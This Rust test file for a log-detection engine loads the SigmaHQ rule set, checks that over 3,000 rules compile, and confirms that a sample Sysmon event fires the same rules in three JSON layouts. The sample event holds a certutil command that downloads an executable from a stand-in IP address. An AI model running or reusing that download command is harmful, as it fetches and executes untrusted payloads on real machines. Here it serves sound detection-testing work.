//! Rules that nobody here wrote, read from the folder named by `HYGIE_CONFORMANCE_DATA`.
//!
//! Without that folder the suite says what it skipped and passes. `sigma/rules` holds the rules of
//! SigmaHQ; each must be in force.
#![expect(clippy::unwrap_used, reason = "a test may stop at a surprise")]
#![expect(clippy::print_stdout, reason = "a skipped suite is said, not hidden")]
#![expect(clippy::disallowed_methods, reason = "foreign suites lie in files")]

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use watch::engine::{Detector, RuleSet, Settings};
use watch::limits::Limits;
use watch::sigma::{Document, Placeholders, Refused, read};
use watch::source::Mapping;

fn load(folder: &Path, documents: &mut Vec<Document>, refused: &mut Vec<Refused>) {
    let mut paths: Vec<PathBuf> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            load(&path, documents, refused);
        } else if path.extension().is_some_and(|ending| ending == "yml") {
            let text = fs::read_to_string(&path).unwrap();
            let origin = path.display().to_string();
            let file = read(&origin, &text, &Placeholders::new(), &Limits::default());
            documents.extend(file.documents);
            refused.extend(file.refused);
        }
    }
}

/// The folder, or `None` after saying so.
fn rules() -> Option<PathBuf> {
    let folder = std::env::var_os("HYGIE_CONFORMANCE_DATA").map(PathBuf::from);
    let rules = folder.map(|folder| folder.join("sigma/rules"));
    let rules = rules.filter(|rules| rules.is_dir());
    if rules.is_none() {
        println!("skipped: no `sigma/rules` in the folder of HYGIE_CONFORMANCE_DATA");
    }
    rules
}

#[test]
fn every_published_rule_is_in_force() {
    let Some(folder) = rules() else { return };
    let (mut documents, mut refused) = (Vec::new(), Vec::new());
    load(&folder, &mut documents, &mut refused);
    let mapping = Mapping::built_in().unwrap();
    let limits = Limits::default();
    let settings = Settings {
        mapping: &mapping,
        limits: &limits,
        fields: &[],
    };
    let compiled = RuleSet::compile(documents, settings);
    refused.extend(compiled.refused);
    let rules = Arc::new(compiled.rules);
    println!(
        "rules {} refused {} predicates {} classes {}",
        rules.rules().len(),
        refused.len(),
        rules.predicates(),
        rules.classes()
    );
    for one in &refused {
        println!("refused {one}");
    }
    assert!(rules.rules().len() > 3_000);
    assert_eq!(refused, []);
    check_a_known_attack(&rules);
}

/// A download by a program that is made for certificates: found in each shape of the event.
fn check_a_known_attack(rules: &Arc<RuleSet>) {
    let data = r#""Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/x.exe x.exe","User":"HOSPITAL\\u1""#;
    let channel = "Microsoft-Windows-Sysmon/Operational";
    let shapes = [
        format!(r#"{{"Channel":"{channel}","EventID":1,{data}}}"#),
        format!(
            r#"{{"Event":{{"System":{{"Channel":"{channel}","EventID":1}},"EventData":{{{data}}}}}}}"#
        ),
        format!(r#"{{"winlog":{{"channel":"{channel}","event_id":"1","event_data":{{{data}}}}}}}"#),
    ];
    let mut found = shapes.iter().map(|line| {
        let mut detector = Detector::new(Arc::clone(rules), &[9; 16]);
        let mut titles = Vec::new();
        detector.line("", line.as_bytes(), |hit| {
            titles.push(hit.rule().unwrap().title.clone());
        });
        titles
    });
    let first = found.next().unwrap();
    println!("certutil: {first:?}");
    assert!(first.len() > 1, "{first:?}");
    assert!(found.all(|other| other == first));
}
